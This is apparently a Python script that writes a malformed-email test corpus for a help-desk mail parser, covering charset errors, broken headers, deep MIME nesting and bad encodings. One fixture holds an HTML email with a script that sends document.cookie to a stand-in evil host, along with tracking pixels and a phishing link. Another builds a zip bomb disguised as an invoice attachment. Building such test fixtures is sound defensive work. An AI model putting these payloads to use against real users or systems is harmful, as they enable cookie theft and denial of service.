"""Write the malformed-mail corpus next to this file (no downloads; run to regenerate).

Each file imitates a kind of mail a help desk really receives: mislabeled Cyrillic
charsets, raw 8-bit headers, broken RFC 2047 words, hostile HTML, a multipart nested
thousands deep, an archive bomb, broken MIME. `tests/unit/incidents/test_mail_corpus.py`
checks that this script still writes exactly the committed files, so a change to it is a
change to the corpus, reviewed as such.

    python tests/data/mail/make_corpus.py [OUT_DIR]
"""

from __future__ import annotations

import base64
import io
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
CRLF = b"\r\n"


def _mail(headers: list[tuple[str, bytes | str]], body: bytes | str) -> bytes:
    lines = [
        name.encode("ascii") + b": " + (v if isinstance(v, bytes) else v.encode("ascii"))
        for name, v in headers
    ]
    data = body if isinstance(body, bytes) else body.encode("ascii")
    return CRLF.join(lines) + CRLF + CRLF + data


BASE = [
    ("Date", "Tue, 01 Dec 2026 09:30:00 +0200"),
    ("To", "desk@kuty.test"),
    ("MIME-Version", "1.0"),
]
TEXT_UK = "Добрий день! Прошу допомогти з доступом до особистого кабінету, пароль не приймається."


def plain_utf8() -> bytes:
    return _mail(
        [("From", "=?utf-8?B?0J7Qu9C10L3QsCDQn9C10YLRgNC10L3QutC+?= <olena@example.org>"),
         ("Subject", "=?utf-8?Q?=D0=94=D0=BE=D1=81=D1=82=D1=83=D0=BF?="),
         ("Message-ID", "<plain-1@example.org>"), *BASE,
         ("Content-Type", "text/plain; charset=utf-8"),
         ("Content-Transfer-Encoding", "8bit")],
        TEXT_UK.encode("utf-8") + CRLF,
    )  # fmt: skip


def reply_threaded() -> bytes:
    return _mail(
        [("From", "olena@example.org"), ("Subject", "Re: Access"),
         ("Message-ID", "<plain-2@example.org>"), ("In-Reply-To", "<reply-from-desk@kuty.test>"),
         ("References", "<plain-1@example.org> <reply-from-desk@kuty.test>"), *BASE,
         ("Content-Type", "text/plain; charset=us-ascii")],
        b"Still no access." + CRLF,
    )  # fmt: skip


def cp1251_declared() -> bytes:
    return _mail(
        [("From", "petro@example.org"), ("Subject", "=?windows-1251?B?"
          + base64.b64encode("Скарга".encode("cp1251")).decode() + "?="),
         ("Message-ID", "<cp1251@example.org>"), *BASE,
         ("Content-Type", "text/plain; charset=windows-1251"),
         ("Content-Transfer-Encoding", "8bit")],
        TEXT_UK.encode("cp1251") + CRLF,
    )  # fmt: skip


def koi8u_mislabeled() -> bytes:
    """KOI8-U bytes labelled CP1251, as an old mail client sends them."""
    return _mail(
        [("From", "ivan@example.org"), ("Subject", "mislabeled"),
         ("Message-ID", "<koi8@example.org>"), *BASE,
         ("Content-Type", "text/plain; charset=windows-1251"),
         ("Content-Transfer-Encoding", "8bit")],
        TEXT_UK.encode("koi8-u") + CRLF,
    )  # fmt: skip


def cp1251_no_charset() -> bytes:
    return _mail(
        [("From", "ivan@example.org"), ("Subject", "no charset"),
         ("Message-ID", "<nocharset@example.org>"), *BASE,
         ("Content-Type", "text/plain"), ("Content-Transfer-Encoding", "8bit")],
        TEXT_UK.encode("cp1251") + CRLF,
    )  # fmt: skip


def header_8bit() -> bytes:
    """Raw CP1251 bytes in From and Subject: no RFC 2047 at all."""
    return _mail(
        [("From", "Іван Сірко".encode("cp1251") + b" <sirko@example.org>"),
         ("Subject", "Погрози".encode("cp1251")), ("Message-ID", "<8bit@example.org>"), *BASE,
         ("Content-Type", "text/plain; charset=cp1251")],
        "Текст".encode("cp1251") + CRLF,
    )  # fmt: skip


def rfc2047_broken() -> bytes:
    return _mail(
        [("From", "=?utf-8?B?!!!broken?= <broken@example.org>"),
         ("Subject", "=?x-unknown-charset?Q?abc?= =?utf-8?B?0J/RgNC40LLRltGC?= =?utf-8?Q?oops"),
         ("Message-ID", "<rfc2047@example.org>"), *BASE,
         ("Content-Type", "text/plain; charset=\"utf-8\"")],
        b"body" + CRLF,
    )  # fmt: skip


def html_hostile() -> bytes:
    html = (
        "<html><head><style>body{background:url(http://tracker.example.net/bg.png)}</style>"
        "<script>fetch('http://evil.example.net/steal?c='+document.cookie)</script></head>"
        '<body onload="alert(1)"><p>Ви виграли!</p>'
        '<img src="http://tracker.example.net/pixel.gif" alt="logo" width=1>'
        '<a href="http://phish.example.net/login" onclick="x()">Увійти</a>'
        '<iframe src="http://evil.example.net/"></iframe></body></html>'
    )
    return _mail(
        [("From", "prize@example.net"), ("Subject", "You won"),
         ("Message-ID", "<html@example.net>"), *BASE,
         ("Content-Type", "text/html; charset=utf-8"),
         ("Content-Transfer-Encoding", "base64")],
        base64.encodebytes(html.encode("utf-8")).replace(b"\n", CRLF),
    )  # fmt: skip


def deep_nesting(depth: int = 3000) -> bytes:
    body = b"".join(
        b'--b%d\r\nContent-Type: multipart/mixed; boundary="b%d"\r\n\r\n' % (i, i + 1)
        for i in range(depth)
    )
    body += b"--b%d\r\nContent-Type: text/plain\r\n\r\nthe bottom\r\n" % depth
    body += b"".join(b"--b%d--\r\n" % i for i in range(depth, -1, -1))
    return _mail(
        [("From", "deep@example.net"), ("Subject", "deep"), ("Message-ID", "<deep@example.net>"),
         *BASE, ("Content-Type", 'multipart/mixed; boundary="b0"')],
        body,
    )  # fmt: skip


def zip_bomb() -> bytes:
    """A zip whose one member inflates to 64 MiB of zeros; it must never be unpacked."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("zeros.bin", "w", force_zip64=True) as member,
    ):
        for _ in range(64):
            member.write(bytes(1 << 20))
    # ZipFile stamps the current time on members; fix it so the corpus is reproducible.
    data = bytearray(buffer.getvalue())
    for offset in _zip_time_offsets(bytes(data)):
        data[offset : offset + 4] = b"\x00\x00\x21\x00"
    encoded = base64.encodebytes(bytes(data)).replace(b"\n", CRLF)
    return _mail(
        [("From", "bomb@example.net"), ("Subject", "invoice"), ("Message-ID", "<zip@example.net>"),
         *BASE, ("Content-Type", 'multipart/mixed; boundary="z"')],
        b"--z\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--z\r\n"
        b"Content-Type: application/zip; name=\"invoice.zip\"\r\n"
        b"Content-Disposition: attachment; filename=\"invoice.zip\"\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + encoded + b"--z--\r\n",
    )  # fmt: skip


def _zip_time_offsets(data: bytes) -> list[int]:
    offsets = []
    start = 0
    while (found := data.find(b"PK\x03\x04", start)) >= 0:
        offsets.append(found + 10)
        start = found + 4
    start = 0
    while (found := data.find(b"PK\x01\x02", start)) >= 0:
        offsets.append(found + 12)
        start = found + 4
    return offsets


def missing_boundary() -> bytes:
    return _mail(
        [("From", "nob@example.net"), ("Subject", "no boundary"),
         ("Message-ID", "<nob@example.net>"), *BASE, ("Content-Type", "multipart/mixed")],
        b"--x\r\nContent-Type: text/plain\r\n\r\nlost\r\n--x--\r\n",
    )  # fmt: skip


def bad_base64() -> bytes:
    return _mail(
        [("From", "b64@example.net"), ("Subject", "bad base64"),
         ("Message-ID", "<b64@example.net>"), *BASE,
         ("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "base64")],
        b"0JTQvtCx0YDQuNC5!!!@@@ not base64 at all\r\n0J",
    )  # fmt: skip


def nul_bytes() -> bytes:
    return _mail(
        [("From", "nul@example.net"), ("Subject", b"nul\x00inside"),
         ("Message-ID", "<nul@example.net>"), *BASE, ("Content-Type", "text/plain")],
        b"before\x00after\r\n",
    )  # fmt: skip


def bad_date_lf_only() -> bytes:
    return (
        b"From: lf@example.net\nSubject: bare LF\nDate: the 32nd of Smarch\n"
        b"Message-ID: <lf@example.net>\n\nline one\nline two\n"
    )


def garbage() -> bytes:
    return bytes(range(256)) * 4


def mbox() -> bytes:
    """Three messages in mboxo form; the second's body has an escaped "From " line."""
    second = _mail(
        [("From", "m2@example.org"), ("Subject", "mbox two"),
         ("Message-ID", "<mbox-2@example.org>")],
        b">From the start of a line\r\nend\r\n",
    )  # fmt: skip
    parts = [plain_utf8(), second, cp1251_declared()]
    out = b""
    for index, part in enumerate(parts):
        out += b"From sender%d@example.org Tue Dec  1 09:30:00 2026\n" % index
        out += part.replace(CRLF, b"\n") + b"\n"
    return out


CORPUS = {
    "plain_utf8.eml": plain_utf8,
    "reply_threaded.eml": reply_threaded,
    "cp1251_declared.eml": cp1251_declared,
    "koi8u_mislabeled.eml": koi8u_mislabeled,
    "cp1251_no_charset.eml": cp1251_no_charset,
    "header_8bit.eml": header_8bit,
    "rfc2047_broken.eml": rfc2047_broken,
    "html_hostile.eml": html_hostile,
    "deep_nesting.eml": deep_nesting,
    "zip_bomb.eml": zip_bomb,
    "missing_boundary.eml": missing_boundary,
    "bad_base64.eml": bad_base64,
    "nul_bytes.eml": nul_bytes,
    "bad_date_lf_only.eml": bad_date_lf_only,
    "garbage.eml": garbage,
    "empty.eml": lambda: b"",
    "three.mbox": mbox,
}


def write_corpus(out: Path) -> list[Path]:
    out.mkdir(parents=True, exist_ok=True)
    written = []
    for name, make in CORPUS.items():
        path = out / name
        path.write_bytes(make())
        written.append(path)
    return written


if __name__ == "__main__":
    for written_path in write_corpus(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE):
        print(written_path)
